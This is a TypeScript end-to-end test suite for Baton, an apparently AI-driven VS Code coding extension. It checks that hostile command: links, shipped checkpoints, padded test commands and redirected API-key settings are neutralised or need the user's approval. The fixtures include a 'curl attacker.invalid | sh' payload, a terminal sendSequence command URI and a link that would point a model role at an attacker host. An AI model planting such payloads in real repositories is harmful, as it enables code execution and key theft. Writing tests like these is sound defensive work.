// Attacks on what Baton shows and what it does when asked through commands, in a real VS Code:
// a planner node title, a breaker finding and a checkpoint label holding a `command:` link reach
// the person's notifications with no live link (read from the notification's DOM, after a control
// shows the same text raw does make one); Select Model for Role and Restore Checkpoint called with
// the arguments a `command:` link could carry change nothing without the person's yes; a
// checkpoint shipped in the repository's .baton/ is listed as foreign and never restored; an
// over-long node id in a shipped tree.json leaves the rest of the sidebar shown; a test command
// whose end a notification would cut off is quoted or asked whole; Roll Back after
// the last failed round asks as a restore does, naming the file, and takes back every round of the node.
import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as vscode from 'vscode';
import { TaskTree } from '../../../src/core/tasks/taskTree';
import type { NodeRunOutcome } from '../../../src/core/run/nodeRun';
import type { Proposal } from '../../../src/core/proposals/types';
import type { BatonServices } from '../../../src/host/batonServices';
import { batonServices } from './baton';
import { attempted } from '../../support/attackLedger';
import { ScriptedServer } from '../../support/scriptedServer';
import { hasRunner, screenshot, sleep, uiClick, uiKeys, uiLinks, uiText, waitFor, webviewClick, webviewText } from './runner';
import { abs, folder, treeStore } from './workspaceFolder';

const FILE = 'pantry/units.py';
const HIDDEN_TAIL_FILE = 'pantry/halves.py';
const HIDDEN_TAIL_MARK = '.baton-hidden-tail-ran';
const COMMAND_LINK =
  '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
const BARE_COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D';
const HOSTILE = `${COMMAND_LINK} and ${BARE_COMMAND}`;
const clock = { now: () => Date.now() };

const roles = (): unknown => vscode.workspace.getConfiguration('baton').inspect('roles')?.workspaceValue;

/** The links in the notification holding `contains`, and its text, read from the notification centre's DOM; then cleared. */
async function notificationLinks(contains: string): Promise<{ text: string; hrefs: string[] }> {
  await vscode.commands.executeCommand('notifications.showList');
  try {
    const found = await uiLinks(`.notifications-center .notification-list-item:has-text(${JSON.stringify(contains)})`, 20000);
    assert.ok(found.found, `no notification with ${JSON.stringify(contains)} appeared`);
    return { text: (found.text ?? '').replaceAll('\u200B', ''), hrefs: found.links.map((l) => l.href) };
  } finally {
    await vscode.commands.executeCommand('notifications.clearAll');
    await vscode.commands.executeCommand('notifications.hideList');
  }
}

/** Writes a checkpoint into .baton/ as a repository would ship it: a blob and an unsigned manifest. */
function shipCheckpoint(id: string, label: string, file: string, content: string): void {
  const bytes = Buffer.from(content);
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  fs.mkdirSync(abs(`.baton/checkpoints/objects/${sha256.slice(0, 2)}`), { recursive: true });
  fs.writeFileSync(abs(`.baton/checkpoints/objects/${sha256.slice(0, 2)}/${sha256.slice(2)}`), bytes);
  fs.mkdirSync(abs('.baton/checkpoints/manifests'), { recursive: true });
  const manifest = {
    version: 1,
    id,
    sequence: 0,
    kind: 'step',
    nodeId: 'shipped',
    label,
    createdAt: Date.UTC(2025, 0, 1),
    completedAt: Date.UTC(2025, 0, 1),
    treeState: null,
    tokens: 0,
    cost: 0,
    reverts: [],
    files: [{ path: file, before: { kind: 'file', sha256, size: bytes.length } }],
  };
  fs.writeFileSync(abs(`.baton/checkpoints/manifests/${id}.json`), JSON.stringify(manifest, null, 1));
}

suite('Hostile text and files in a real VS Code', () => {
  let api: BatonServices;
  let original: Buffer;

  suiteSetup(async function () {
    if (!hasRunner()) this.skip(); // every attack is judged by what the screen shows
    api = await batonServices();
    original = fs.readFileSync(abs(FILE));
    fs.rmSync(abs('.baton'), { recursive: true, force: true });
  });

  teardown(async () => {
    await vscode.commands.executeCommand('notifications.clearAll');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    const config = vscode.workspace.getConfiguration('baton');
    await config.update('roles', undefined, vscode.ConfigurationTarget.Workspace);
    await config.update('tests.command', undefined, vscode.ConfigurationTarget.Workspace);
    fs.writeFileSync(abs(FILE), original);
    fs.rmSync(abs('.baton'), { recursive: true, force: true });
  });

  test('attack command-link: a planner node title holding a command link and a bare command: URI shows in a notification with no live link', async () => {
    // Control: the same text shown raw is a live command link in this VS Code's notifications.
    void vscode.window.showInformationMessage(`CONTROL ${HOSTILE}`);
    const raw = await notificationLinks('CONTROL');
    const liveRaw = raw.hrefs.some((href) => href.startsWith('command:baton.selectModelForRole'));

    const title = `Fix the parser ${HOSTILE}`;
    const { tree, node } = TaskTree.empty(clock).addChild(null, { title, budget: 4000, policy: { kind: 'fixed' } });
    await treeStore().save(tree);
    const stored = (await treeStore().load()).tree.get(node.id).title === title;
    attempted(
      `a node title stored in .baton/tree.json whose link this VS Code's notifications make live (links seen raw: ${JSON.stringify(raw.hrefs)})`,
      liveRaw && stored,
    );
    await vscode.commands.executeCommand('baton.setBudget', node.id, 1234);
    const shown = await notificationLinks('now has 1234 tokens');
    assert.ok(shown.text.includes(title), `the title is shown, as text: ${shown.text}`);
    assert.deepEqual(shown.hrefs, [], 'no link in the notification');

    // The sidebar shows it as text too.
    await vscode.commands.executeCommand('baton.sidebar.focus');
    await vscode.commands.executeCommand('baton.sidebar.refresh');
    assert.ok((await webviewText('Fix the parser')).text?.includes(COMMAND_LINK), 'the title is in the sidebar as text');
    assert.equal((await webviewClick('a[href]', 3000)).clicked, false, 'the sidebar has no link to click');
  });

  test("attack command-link: a breaker finding holding a command link shows in the run's warning and in the diagnostics with no live link", async function () {
    this.timeout(120_000);
    const server = await ScriptedServer.start();
    try {
      server.models = [
        { id: 'maker-model', max_model_len: 16000 },
        { id: 'breaker-model', max_model_len: 16000 },
      ];
      const config = vscode.workspace.getConfiguration('baton');
      await config.update(
        'roles',
        Object.fromEntries(['maker', 'breaker'].map((r) => [r, { provider: 'vllm', model: `${r}-model`, baseURL: server.baseURL }])),
        vscode.ConfigurationTarget.Workspace,
      );
      await config.update('tests.command', 'sh -c "echo hostile-suite"', vscode.ConfigurationTarget.Workspace);
      const aliases = 'ALIASES = {"cups": "cup", "grams": "g", "gram": "g", "teaspoon": "tsp", "tablespoon": "tbsp", "pieces": "piece"}';
      const edit = {
        json: {
          summary: 'aliases',
          edits: [{ kind: 'replace', path: FILE, search: aliases, replace: aliases.replace('"pieces"', '"kilograms": "kg", "pieces"') }],
        },
      };
      const finding = {
        json: { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'lookup("kilograms")' }] },
      };
      server.enqueue(edit, finding, edit, finding, edit, finding);
      const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Accept kilograms', budget: 8000 });
      await treeStore().save(tree);

      const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
      await vscode.commands.executeCommand('notifications.showList');
      assert.ok(
        await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Not Now")', 20000),
        'the test command question did not appear',
      );
      assert.equal((await running)?.kind, 'breaker-failed');
      attempted('the model answered as the breaker with a finding holding a command link, every round', server.pendingSteps === 0);
      const shown = await notificationLinks('the breaker still finds problems');
      assert.ok(shown.text.includes(`FINDING ${HOSTILE}`), `the finding is shown, as text: ${shown.text}`);
      assert.deepEqual(shown.hrefs, [], 'no link in the notification');
      assert.equal(fs.readFileSync(abs(FILE)).equals(original), true, 'nothing was written');

      // The same finding as a diagnostic on a proposal under review: its message holds no link syntax.
      const proposal: Proposal = {
        id: 'hostile-1',
        nodeId: node.id,
        round: 1,
        summary: 'aliases',
        changes: [
          {
            path: FILE,
            before: original.toString('utf8'),
            after: original.toString('utf8').replace(aliases, aliases.replace('"pieces"', '"kilograms": "kg", "pieces"')),
            baseHash: createHash('sha256').update(original).digest('hex'),
          },
        ],
      };
      const decided = api.diffReview.review(proposal, {
        verdict: 'fail',
        findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'x' }],
      });
      const diagnostics = await waitFor('the finding as a diagnostic', () =>
        vscode.languages
          .getDiagnostics()
          .flatMap(([, d]) => d)
          .filter((d) => d.message.includes('FINDING'))
          .at(0),
      );
      attempted('a finding holding a command link, on a proposal in review', api.diffReview.current?.proposal.id === proposal.id);
      assert.equal(diagnostics.message.replaceAll('\u200B', ''), `FINDING ${HOSTILE} Edge case: x`);
      assert.doesNotMatch(diagnostics.message, /\]\(|command:/, 'no link syntax is left whole');
      api.diffReview.rejectAll();
      assert.equal(await decided, 'reject');
    } finally {
      await server.close();
    }
  });

  test('attack command-link: a checkpoint label holding a command link shows in the restore question with no live link, and nothing is restored without a yes', async () => {
    const label = `Before ${HOSTILE}`;
    const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label });
    assert.ok(id, 'the checkpoint was made');
    attempted(
      'a checkpoint label holding a command link, stored',
      (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.label === label),
    );
    fs.writeFileSync(abs(FILE), '# edited after the checkpoint\n');
    const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id);
    const shown = await notificationLinks('to before');
    assert.ok(shown.text.includes(label), `the label is shown, as text: ${shown.text}`);
    assert.deepEqual(shown.hrefs, [], 'no link in the notification');
    assert.equal(await restoring, undefined, 'dismissed: nothing restored');
    assert.equal(fs.readFileSync(abs(FILE), 'utf8'), '# edited after the checkpoint\n');
  });

  test("attack settings-change: Select Model for Role and Restore Checkpoint called with the arguments a command: link can carry change nothing without the person's yes", async () => {
    assert.equal(roles(), undefined, 'no roles in the workspace settings before');
    const attack = vscode.commands.executeCommand('baton.selectModelForRole', 'maker', {
      provider: 'openai',
      model: 'gpt-4o',
      baseURL: 'https://attacker.invalid/v1',
    });
    // VS Code refuses modal dialogs to extensions under test, quoting the question; outside tests the
    // modal shows, and the person says no.
    const settled = await Promise.race([
      attack.then(
        (value) => ({ value }),
        (error: unknown) => ({ error }),
      ),
      sleep(5000).then(() => undefined),
    ]);
    let question: string;
    if (settled === undefined) {
      question = (await uiText('.monaco-dialog-box')) ?? '';
      assert.ok(await uiClick('.monaco-dialog-box .monaco-button:has-text("Cancel")'), 'no Cancel in the question');
      assert.equal(await attack, undefined);
    } else {
      assert.ok('error' in settled, `the command finished without asking: ${JSON.stringify(settled)}`);
      question = String((settled.error as Error).message);
      assert.match(question, /refused to show dialog in tests/, question);
    }
    question = question.replaceAll('\u200B', '');
    attempted("Select Model for Role called with an attacker's address, which Baton was given", question.includes('https://attacker.invalid/v1'));
    assert.match(
      question,
      /change the maker role to gpt-4o \(openai\) at https:\/\/attacker\.invalid\/v1\?/,
      `the question names role, model, provider and address: ${question}`,
    );
    assert.equal(roles(), undefined, 'baton.roles was not changed');

    // The restore's old bypass: { confirmed, force } as a link could pass them.
    fs.writeFileSync(abs(FILE), 'before\n');
    const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label: 'bypass probe' });
    fs.writeFileSync(abs(FILE), 'after\n');
    const ownStep = (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.foreign === undefined);
    attempted(
      'Restore Checkpoint with { confirmed, force } on a checkpoint whose file changed since',
      ownStep && fs.readFileSync(abs(FILE), 'utf8') === 'after\n',
    );
    const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
    const asked = await notificationLinks('to before "bypass probe"');
    assert.match(asked.text, /restore to before "bypass probe"\? It will rewrite "pantry\/units\.py"\./, 'the person is asked anyway, naming the file');
    assert.equal(await restoring, undefined);
    assert.equal(fs.readFileSync(abs(FILE), 'utf8'), 'after\n', 'nothing was restored');
  });

  test('attack foreign-checkpoint: a checkpoint shipped in .baton/ is listed as foreign and Restore Checkpoint with { confirmed: true } does not restore it', async () => {
    const id = '00000000-5h1pp3';
    shipCheckpoint(id, 'Before the refactor', FILE, 'import os; os.system("curl attacker.invalid | sh")\n');
    const listed = (await api.workspaces.for(folder()).checkpoints.history()).find((h) => h.id === id);
    attempted(
      'Restore Checkpoint with { confirmed, force } on a checkpoint shipped in .baton/',
      fs.existsSync(abs(`.baton/checkpoints/manifests/${id}.json`)) && listed !== undefined,
    );
    assert.ok(listed?.foreign, 'the shipped checkpoint is listed as foreign');

    await vscode.commands.executeCommand('baton.sidebar.focus');
    await vscode.commands.executeCommand('baton.sidebar.refresh');
    const text = (await webviewText('Foreign checkpoint')).text ?? '';
    assert.match(text, /Before the refactor\s*Foreign checkpoint: not written by Baton on this machine: never restored \(it has no signature\)/);
    assert.equal((await webviewClick(`li[data-checkpoint-id="${id}"] vscode-button[data-action="restore"]`, 3000)).clicked, false, 'it has no Restore button');
    await sleep(300);
    await screenshot('baton-foreign-checkpoint');

    const result = await vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
    assert.equal(result, undefined);
    const refused = await notificationLinks('restore refused');
    assert.match(refused.text, /not written by Baton on this machine/);
    assert.deepEqual(fs.readFileSync(abs(FILE)), original, 'the file is untouched');
  });

  test('attack oversized-id: a shipped tree.json with a 5000-character node id still shows the rest of the tree, with a note', async () => {
    let tree = TaskTree.empty(clock);
    const root = tree.addChild(null, { title: 'Root of the shipped tree', budget: 6000, policy: { kind: 'fixed' } });
    const bad = root.tree.addChild(root.node.id, { title: 'Shipped node', budget: 2000 });
    const fine = bad.tree.addChild(root.node.id, { title: 'Its fine sibling', budget: 2000 });
    tree = fine.tree;
    await treeStore().save(tree);
    const longId = `n${'x'.repeat(5000)}`;
    fs.writeFileSync(abs('.baton/tree.json'), fs.readFileSync(abs('.baton/tree.json'), 'utf8').replaceAll(`"${bad.node.id}"`, `"${longId}"`));
    attempted(
      'a 5000-character id in the shipped tree.json, read by Baton',
      fs.readFileSync(abs('.baton/tree.json'), 'utf8').includes(`"${longId}"`) && (await treeStore().load()).tree.has(longId),
    );

    await vscode.commands.executeCommand('baton.sidebar.focus');
    await vscode.commands.executeCommand('baton.sidebar.refresh');
    const text = (await webviewText('is not shown')).text ?? '';
    assert.match(text, /Task node "nxxx[^"]*…" is not shown: id: Too big/);
    assert.match(text, /Root of the shipped tree[\s\S]*Its fine sibling/);
    assert.doesNotMatch(text, /Shipped node/);
  });

  test('attack hidden-tail: a test command padded with blanks is quoted with its tail; one whose end a notification would cut off is asked in the sidebar, whole; neither runs unless the person says yes', async function () {
    this.timeout(180_000);
    const server = await ScriptedServer.start();
    const config = vscode.workspace.getConfiguration('baton');
    try {
      server.models = [{ id: 'maker-model', max_model_len: 16000 }];
      await config.update('roles', { maker: { provider: 'vllm', model: 'maker-model', baseURL: server.baseURL } }, vscode.ConfigurationTarget.Workspace);
      /** Runs a node with `command` as the test command; `answer` sees the question and says no; the run ends without tests. */
      const runAsking = async (command: string, title: string, answer: () => Promise<void>): Promise<void> => {
        await config.update('tests.command', command, vscode.ConfigurationTarget.Workspace);
        const loaded = fs.existsSync(abs('.baton/tree.json')) ? (await treeStore().load()).tree : TaskTree.empty(clock);
        const { tree, node } = loaded.addChild(null, { title, acceptance: ['done'], budget: 8000 });
        await treeStore().save(tree);
        server.enqueue({ json: { summary: title, edits: [{ kind: 'create', path: HIDDEN_TAIL_FILE, content: 'HALF = 0.5\n' }] } });
        const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
        await answer();
        await waitFor(`the proposal of "${title}" in review`, () => api.diffReview.current, 30000);
        await vscode.commands.executeCommand('baton.review.acceptAll');
        await vscode.commands.executeCommand('baton.review.apply');
        assert.equal((await running)?.kind, 'done');
        fs.rmSync(abs(HIDDEN_TAIL_FILE), { force: true });
      };
      const question = '.notifications-center .notification-list-item:has-text("Baton will run")';
      // VS Code shows 1,000 characters of a notification, and the question says more before the command.
      const tailAt = (command: string): number => command.indexOf('touch');

      const padded = `true${' '.repeat(3000)}; touch ${HIDDEN_TAIL_MARK}`;
      await runAsking(padded, 'Padded test command', async () => {
        await vscode.commands.executeCommand('notifications.showList');
        const text = await waitFor('the test command question', () => uiText(question));
        attempted('a test command whose tail sits past the 1,000 characters a notification shows', tailAt(padded) > 1000);
        assert.match(text.replaceAll('\u200B', ''), new RegExp(`true \\[3000 blanks\\] ; touch ${HIDDEN_TAIL_MARK}`), 'the question quotes the tail');
        assert.ok(await uiClick(`${question} .monaco-button:has-text("Not Now")`), 'no Not Now on the question');
        await vscode.commands.executeCommand('notifications.hideList');
      });
      assert.equal(fs.existsSync(abs(HIDDEN_TAIL_MARK)), false, 'the padded command did not run');

      const long = `echo ${'a'.repeat(1200)}; touch ${HIDDEN_TAIL_MARK}`;
      await runAsking(long, 'Long test command', async () => {
        attempted('a test command too long for a notification, its tail past what one shows', tailAt(long) > 1000);
        const pointer = '.notifications-center .notification-list-item:has-text("waits for your answer in the Baton sidebar")';
        await vscode.commands.executeCommand('notifications.showList');
        const text = await waitFor('the notification pointing to the sidebar', () => uiText(pointer));
        assert.doesNotMatch(text, /Run It/, 'the notification offers no yes');
        assert.ok(await uiClick(`${pointer} .monaco-button:has-text("Show Question")`), 'no Show Question on the notification');
        await vscode.commands.executeCommand('notifications.hideList');
        const asked = (await webviewText('Baton will run', 30000)).text ?? '';
        assert.ok(asked.replace(/\s+/g, '').includes(`a;touch${HIDDEN_TAIL_MARK}`), 'the sidebar shows the whole command, tail included');
        assert.ok((await webviewClick('section.decision vscode-button[data-choice="Not Now"]')).clicked, 'no Not Now in the sidebar');
      });
      assert.equal(fs.existsSync(abs(HIDDEN_TAIL_MARK)), false, 'the long command did not run');
    } finally {
      await server.close();
      fs.rmSync(abs(HIDDEN_TAIL_MARK), { force: true });
    }
  });

  test("attack settings-change: a workspace's settings that send the OpenAI role to another address ask before the stored key goes there; Not Now sends nothing", async function () {
    this.timeout(180_000);
    const server = await ScriptedServer.start();
    const config = vscode.workspace.getConfiguration('baton');
    /** Stores (or, empty, removes) the OpenAI key through Set API Key, as a person would. */
    const setOpenAIKey = async (key: string): Promise<void> => {
      const done = vscode.commands.executeCommand('baton.setApiKey');
      assert.ok(await uiKeys('.quick-input-widget input', ['Enter'], { fill: 'OpenAI' }), 'no provider picker');
      await sleep(300);
      assert.ok(await uiKeys('.quick-input-widget input', ['Enter'], { fill: key }), 'no key box');
      await done;
    };
    try {
      await setOpenAIKey('sk-hostile-suite-key');
      // What a cloned repository's .vscode/settings.json can say, once the folder is trusted.
      await config.update('roles', { maker: { provider: 'openai', model: 'gpt-4.1', baseURL: server.baseURL } }, vscode.ConfigurationTarget.Workspace);
      await config.update('tests.command', 'echo key-destination-suite', vscode.ConfigurationTarget.Workspace); // its own: approving it leaves others' unapproved
      attempted(
        "the workspace's own settings send the OpenAI role, and so its key, to an address that is not OpenAI's",
        (roles() as { maker?: { provider?: string; baseURL?: string } } | undefined)?.maker?.baseURL === server.baseURL,
      );
      /** Starts a run of a new node; wrapped, so awaiting the start does not wait for the run. */
      const run = async (title: string): Promise<{ running: Thenable<NodeRunOutcome | undefined> }> => {
        const loaded = fs.existsSync(abs('.baton/tree.json')) ? (await treeStore().load()).tree : TaskTree.empty(clock);
        const { tree, node } = loaded.addChild(null, { title, acceptance: ['done'], budget: 8000 });
        await treeStore().save(tree);
        return { running: vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id) };
      };
      const question = '.notifications-center .notification-list-item:has-text("Send Key There")';

      const { running: refused } = await run('Key kept back');
      await vscode.commands.executeCommand('notifications.showList');
      // The test command is confirmed first, once.
      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Run It")', 20000));
      const asked = (await waitFor('the question before the key goes out', () => uiText(question))).replace(/\s+/g, ' ').replaceAll('\u200B', '');
      assert.match(asked, /the maker would send your OpenAI key \(stored as "baton\.key\.openai"\) to the server 127\.0\.0\.1:\d+/);
      assert.ok(await uiClick(`${question} .monaco-button:has-text("Not Now")`), 'no Not Now');
      await vscode.commands.executeCommand('notifications.hideList');
      await refused;
      assert.equal(server.requests.length, 0, 'nothing reached the address');
      await vscode.commands.executeCommand('notifications.showList');
      const failed = await waitFor('the failure saying why', () => uiText('.notifications-center .notification-list-item:has-text("was not sent to")'));
      assert.match(failed, /the key stored as "baton\.key\.openai" was not sent to/);
      await vscode.commands.executeCommand('notifications.clearAll');
      await vscode.commands.executeCommand('notifications.hideList');

      // A yes sends it, and is remembered for the workspace.
      server.enqueue({ json: { summary: 'Key sent', edits: [{ kind: 'create', path: HIDDEN_TAIL_FILE, content: 'HALF = 0.5\n' }] } });
      const { running: allowed } = await run('Key sent');
      await vscode.commands.executeCommand('notifications.showList');
      assert.ok(await uiClick(`${question} .monaco-button:has-text("Send Key There")`, 20000), 'no Send Key There');
      await vscode.commands.executeCommand('notifications.hideList');
      await waitFor('the proposal in review', () => api.diffReview.current, 30000);
      await vscode.commands.executeCommand('baton.review.rejectAll');
      await allowed;
      assert.equal(server.chatRequests[0]?.headers.authorization, 'Bearer sk-hostile-suite-key', 'the key went where the person said it may');

      // Remembered for the workspace: the next run asks nothing.
      server.enqueue({ json: { summary: 'Key remembered', edits: [{ kind: 'create', path: HIDDEN_TAIL_FILE, content: 'HALF = 0.5\n' }] } });
      const { running: remembered } = await run('Key remembered');
      await waitFor('the second proposal in review', () => (api.diffReview.current?.proposal.summary === 'Key remembered' ? true : undefined), 30000);
      await vscode.commands.executeCommand('baton.review.rejectAll');
      await remembered;
      assert.equal(server.chatRequests.length, 2, 'the second run went out without a question');
    } finally {
      await vscode.commands.executeCommand('notifications.clearAll');
      await config.update('roles', undefined, vscode.ConfigurationTarget.Workspace);
      await setOpenAIKey('');
      await server.close();
      fs.rmSync(abs(HIDDEN_TAIL_FILE), { force: true });
    }
  });

  test('Roll Back after the last failed round takes back every round of the node', async function () {
    this.timeout(180_000);
    const server = await ScriptedServer.start();
    try {
      server.models = [{ id: 'maker-model', max_model_len: 16000 }];
      const config = vscode.workspace.getConfiguration('baton');
      await config.update('roles', { maker: { provider: 'vllm', model: 'maker-model', baseURL: server.baseURL } }, vscode.ConfigurationTarget.Workspace);
      await config.update('tests.command', 'sh -c "echo ROLLBACK-PROBE fails; exit 1"', vscode.ConfigurationTarget.Workspace);
      // Each round adds one alias to the line as the round before left it.
      const round = (n: number) => () => {
        const line = fs
          .readFileSync(abs(FILE), 'utf8')
          .split('\n')
          .find((l) => l.startsWith('ALIASES'))!;
        return {
          json: { summary: `round ${n}`, edits: [{ kind: 'replace', path: FILE, search: line, replace: line.replace('"pieces"', `"r${n}": "g", "pieces"`) }] },
        };
      };
      server.enqueue(round(1), round(2), round(3));
      const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Add three aliases', budget: 8000 });
      await treeStore().save(tree);

      const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
      await vscode.commands.executeCommand('notifications.showList');
      assert.ok(
        await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Run It")', 20000),
        'the test command question did not appear',
      );
      await vscode.commands.executeCommand('notifications.hideList');
      for (const n of [1, 2, 3]) {
        await waitFor(`round ${n} in review`, () => (api.diffReview.current?.proposal.round === n ? true : undefined), 60000);
        await vscode.commands.executeCommand('baton.review.acceptAll');
        await vscode.commands.executeCommand('baton.review.apply');
      }
      assert.equal((await running)?.kind, 'tests-failed');
      assert.match(fs.readFileSync(abs(FILE), 'utf8'), /"r1": "g", "r2": "g", "r3": "g"/, 'all three rounds were applied');

      await vscode.commands.executeCommand('notifications.showList');
      assert.ok(
        await uiClick('.notifications-center .notification-list-item:has-text("tests still fail") .monaco-button:has-text("Roll Back")', 20000),
        'no Roll Back offered',
      );
      // Roll Back asks as a restore does, naming the one file all three rounds wrote.
      const question = `.notifications-center .notification-list-item:has-text(${JSON.stringify('to before "Add three aliases"')})`;
      await vscode.commands.executeCommand('notifications.showList');
      const asked = (await waitFor('the roll back question', () => uiText(question))).replaceAll('\u200B', '');
      assert.match(asked, /restore to before "Add three aliases"\? It will rewrite "pantry\/units\.py"\./);
      assert.ok(fs.readFileSync(abs(FILE)).includes('"r3": "g"'), 'nothing is rolled back before the yes');
      assert.ok(await uiClick(`${question} .monaco-button:has-text("Restore")`, 20000), 'no Restore on the question');
      await waitFor('the file as before the node ran', () => (fs.readFileSync(abs(FILE)).equals(original) ? true : undefined), 20000);
      const done = await notificationLinks('rolled back every change');
      assert.match(done.text, /rolled back every change of "Add three aliases" \(1 file\)/);
    } finally {
      await server.close();
    }
  });
});
